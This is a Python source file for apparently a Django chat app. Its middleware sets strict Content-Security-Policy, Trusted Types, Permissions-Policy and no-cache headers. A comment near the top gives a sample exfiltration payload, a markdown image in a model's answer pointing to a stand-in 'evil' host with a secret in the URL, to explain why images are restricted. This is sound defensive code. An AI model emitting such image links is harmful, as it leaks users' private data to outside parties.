"""What every response says of itself: what its page may do, and that nobody keeps it.

Pages load nothing from elsewhere and hold no inline code. What is not a static file is
somebody's own, or a form that holds their token: no cache stores it.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Any

from asgiref.sync import iscoroutinefunction
from django.core.exceptions import DisallowedHost
from django.http import HttpRequest
from django.http.response import HttpResponseBase
from django.urls import reverse
from django.utils.cache import add_never_cache_headers
from django.utils.decorators import sync_and_async_middleware

POLICY = "Content-Security-Policy"
PERMISSIONS = "Permissions-Policy"

# Images may only come from here: `![x](https://evil/?secret)` in a model's answer
# would otherwise carry what it knows to anybody.
_POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "font-src 'self'; connect-src {connect}; manifest-src 'self'; base-uri 'none'; "
    "form-action 'self'; frame-src 'self'; frame-ancestors 'none'"
)
# Of the frame in which somebody asked for one image (chat.views.image).
_IMAGE_POLICY = (
    "sandbox; default-src 'none'; img-src http: https:; style-src 'nonce-{nonce}'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'self'"
)
# No policy may be made, so no text becomes markup or a script's address.
_TRUSTED_TYPES = "; require-trusted-types-for 'script'; trusted-types 'none'"
# What the pages use is for them alone; what browsers would offer besides is for nobody.
_PERMISSIONS = ", ".join(
    [
        *(
            f"{feature}=(self)"
            for feature in (
                "clipboard-write",
                "publickey-credentials-create",
                "publickey-credentials-get",
            )
        ),
        *(
            f"{feature}=()"
            for feature in (
                "accelerometer",
                "camera",
                "clipboard-read",
                "display-capture",
                "geolocation",
                "gyroscope",
                "hid",
                "magnetometer",
                "microphone",
                "midi",
                "payment",
                "screen-wake-lock",
                "serial",
                "usb",
                "xr-spatial-tracking",
            )
        ),
    ]
)


@sync_and_async_middleware
def response_headers(get_response: Callable[[HttpRequest], Any]) -> Any:
    """Add the headers to every response that does not bring its own."""
    if iscoroutinefunction(get_response):

        async def respond_async(request: HttpRequest) -> HttpResponseBase:
            answer: Awaitable[HttpResponseBase] = get_response(request)
            return _with_headers(request, await answer)

        return respond_async

    def respond(request: HttpRequest) -> HttpResponseBase:
        return _with_headers(request, get_response(request))

    return respond


def policy(request: HttpRequest) -> str:
    """The policy for the page at this address."""
    value = _POLICY.format(connect=_connect_sources(request))
    # Django's admin assigns to innerHTML; the pages of this site do not.
    if not request.path.startswith(reverse("admin:index")):
        value += _TRUSTED_TYPES
    return value


def image_policy(nonce: str) -> str:
    """The policy for a page that shows an image from elsewhere, and does no more."""
    return _IMAGE_POLICY.format(nonce=nonce)


def _with_headers(request: HttpRequest, response: HttpResponseBase) -> HttpResponseBase:
    response.headers.setdefault(POLICY, policy(request))
    if response.headers.get("Content-Type", "").startswith("text/html"):
        # A third of a kilobyte, which nothing but a document heeds.
        response.headers.setdefault(PERMISSIONS, _PERMISSIONS)
    if not response.has_header("Cache-Control"):  # static files bring theirs
        add_never_cache_headers(response)
    return response


def _connect_sources(request: HttpRequest) -> str:
    # 'self' covers this host's WebSockets, but not in older Safaris.
    try:
        host = request.get_host()
    except DisallowedHost:
        return "'self'"
    return f"'self' {'wss' if request.is_secure() else 'ws'}://{host}"
